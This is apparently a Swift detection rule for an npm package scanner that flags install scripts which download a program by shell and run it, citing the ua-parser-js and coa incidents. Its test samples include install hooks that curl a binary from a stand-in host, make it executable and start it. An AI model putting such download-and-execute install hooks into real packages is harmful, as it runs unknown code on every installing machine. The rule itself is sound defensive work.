// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A shell or batch file that runs at install downloads a program and starts it.
package struct InstallShellDownload: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-shell-download", kind: .content, title: "Install downloads a program by shell and starts it", severity: .critical,
        confidence: .medium, status: .stable, revision: 4, group: "behaviour",
        rationale:
            "ua-parser-js, coa and rc shipped a shell and a batch file that fetched a program and started it. Honest installers fetch their own release, in JavaScript, and check it.",
        knownFalseAlarms: ["An installer written in shell; from the project's own releases it weighs little."],
        references: ["https://github.com/faisalman/ua-parser-js/issues/536", "https://github.com/veged/coa/issues/99"],
        fires: [
            RuleSample(
                "in the command itself",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"curl -o x http://files.test/x; sh x"}}"#])),
            RuleSample(
                "shell file by way of JavaScript",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"start /B node pre.js & node pre.js"}}"#,
                    "pre.js": "const {exec} = require('child_process'); exec('/bin/bash pre.sh');",
                    "pre.sh": "curl http://files.test/d/tool -o tool\nchmod +x tool\n./tool -k --tls &\n",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "a client that only fetches data, in the command itself",
                .sample([
                    "package.json":
                        #"{"name":"a","version":"1.0.0","scripts":{"install":"curl -sLo data.json https://a.example/data.json"}}"#
                ])),
            RuleSample(
                "builds from source",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"sh build.sh"}}"#,
                    "build.sh": "make -C deps all\nchmod +x deps/out\n",
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let found = facts.installShells.compactMap { finding(in: $0, facts) }
        return found.max { $0.bits < $1.bits }.map { [$0] } ?? []
    }

    private func finding(in shell: InstallShell, _ facts: ReleaseFacts) -> Finding? {
        guard let download = shell.facts.first(.downloads) else { return nil }
        let ran = shell.facts.acts.first { $0.kind == .runsDownload && $0.isThroughFile }
        let file: FileFacts? = if case .file(let position) = shell.origin { facts.files[position] } else { nil }
        // In one line a download alone says little: what comes after it stands elsewhere.
        guard ran != nil || file != nil else { return nil }
        let starts =
            ran ?? shell.facts.acts.first { $0.kind == .makesExecutable && $0.sources.contains(.download) }
            ?? shell.facts.acts.first { $0.kind == .unpacks && runsUnknown(shell, facts) }
        let hosts = shell.facts.hosts
        let isOwn = !hosts.isEmpty && hosts.allSatisfy { PlainHosts.releases.contains($0) || facts.isOwn($0) }
        let strength = isOwn ? 0 : (starts != nil ? 0.7 : 0.35) + (file?.change == .same ? 0 : 0.3)
        return card.finding(
            starts != nil ? "Install downloads a program by shell and makes it run" : "Install downloads by shell", strength: strength,
            evidence: [download, starts].compactMap { $0 }.map { facts.evidence($0, in: shell) },
            meaning: "A program that is not part of the package runs on every machine that installs it.")
    }

    /// Whether the text starts a program by a path at which the release has nothing.
    private func runsUnknown(_ shell: InstallShell, _ facts: ReleaseFacts) -> Bool {
        shell.facts.runs.contains { run in
            run.way != .perhaps && run.path.contains("/") && !run.path.hasPrefix("/")
                && facts.release.content.file(ShellBuilder.fileName(run.path)) == nil
        }
    }
}
